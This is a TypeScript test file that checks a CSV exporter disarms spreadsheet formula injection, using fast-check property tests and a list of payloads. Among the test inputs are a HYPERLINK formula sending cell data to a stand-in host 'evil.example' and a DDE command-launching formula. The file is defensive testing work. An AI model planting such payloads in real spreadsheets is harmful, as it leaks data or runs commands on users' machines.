import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/export/links-csv';

const FORMULA = /^[\s\u200b\ufeff]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { newline: '\r\n', delimiter: ',' }).data.slice(0, -1);
}

describe('toCsv', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u200b=1+1',
    '\ufeff=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20x',
  ])('disarms %j', (cell) => {
    expect(readBack(toCsv([[cell]]))).toEqual([[`'${cell}`]]);
  });

  it.each(['https://e.org/', '|x', ';=1', "'=1", '%0A=1', '"quoted"', 'a,b', 'a\nb', 'a\r\nb'])(
    'leaves %j as it is',
    (cell) => {
      expect(readBack(toCsv([[cell, 'x']]))).toEqual([[cell, 'x']]);
    },
  );

  it('reads back as written, except for apostrophes before formulas', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const expected = rows.map((row) =>
            row.map((cell) => (FORMULA.test(cell) ? `'${cell}` : cell)),
          );
          expect(readBack(toCsv(rows))).toEqual(expected);
        },
      ),
    );
  });
});
